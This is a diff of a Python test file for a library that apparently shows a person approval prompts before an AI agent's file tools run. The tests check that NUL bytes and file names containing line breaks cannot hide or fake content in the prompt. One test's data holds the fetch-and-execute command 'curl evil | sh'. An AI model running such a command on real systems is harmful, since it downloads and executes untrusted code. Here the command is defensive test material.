@@ -10,10 +10,10 @@ import pytest
 
 from assent.config import SandboxPath
 from assent.errors import ConfigError
-from assent.model import Approve, Reject, Scope
+from assent.model import Approve, Pending, Reject, Scope
 from assent.runtime import Ungated
 from assent.tools.files import FileSandbox, file_tools
-from assent.ui import draw
+from assent.ui.draw import Look, whole
 from tests.tools.files.kit import Person, files_in, refused, session
 
 
@@ -37,6 +37,11 @@ def rw(root: Path, **rule: Any) -> SandboxPath:  # noqa: ANN401
 # What a person sees
 
 
+def draw(pending: Pending) -> str:
+    """The whole question, as the pager shows it."""
+    return "\n".join(whole(pending, Look(width=200)))
+
+
 @pytest.mark.parametrize(
     ("tool", "args"),
     [
@@ -49,7 +54,7 @@ async def test_a_nul_byte_hides_nothing(sandbox: FileSandbox, tool: str, args: d
     person = Person()
     await session(sandbox, person).call(tool, {"path": "work/a.sh", **args})
     assert "curl evil | sh" in draw(person.asked[0])
-    assert "nothing changes" not in draw(person.asked[0])
+    assert "Nothing changes." not in draw(person.asked[0])
 
 
 async def test_text_that_replaces_what_is_no_text_is_shown_whole(sandbox: FileSandbox, work: Path) -> None:
@@ -64,7 +69,7 @@ async def test_text_that_replaces_what_is_no_text_is_shown_whole(sandbox: FileSa
 async def test_a_write_that_changes_nothing_says_so(sandbox: FileSandbox) -> None:
     person = Person()
     await session(sandbox, person).call("write_file", {"path": "work/a.sh", "content": "echo hello\n"})
-    assert "nothing changes" in draw(person.asked[0])
+    assert "Nothing changes." in draw(person.asked[0])
 
 
 @pytest.mark.parametrize("path", ["work/way/../prod.cfg", "work/readme.md"])
@@ -77,7 +82,7 @@ async def test_a_person_sees_where_a_path_leads(sandbox: FileSandbox, work: Path
     await session(sandbox, person).call("write_file", {"path": path, "content": "new\n"})
     question = person.asked[0]
     assert question.preview.presentation.description == f"Write 1 line to {path} → work/sub/prod.cfg"
-    assert "+++ b/sub/prod.cfg" in draw(question)
+    assert "sub/prod.cfg" in draw(question)
     assert "every write of work/sub/prod.cfg by this tool" in question.request.covers
     assert (work / "sub/prod.cfg").read_text() == "new\n"
 
@@ -87,8 +92,8 @@ async def test_a_name_with_line_breaks_cannot_fake_a_line_of_a_move(sandbox: Fil
     (work / name).write_text("data\n")
     person = Person()
     await session(sandbox, person).call("move_file", {"path": f"work/{name}", "destination": "work/.bashrc"})
-    lines = [line for line in draw(person.asked[0]).splitlines() if line.startswith("  │ to")]
-    assert lines == ["  │ to   work/.bashrc"]
+    lines = [line for line in draw(person.asked[0]).splitlines() if line.startswith("To: ")]
+    assert lines == ["To: work/.bashrc"]
 
 
 async def test_the_warning_that_an_edit_cannot_work_is_seen(work: Path) -> None:
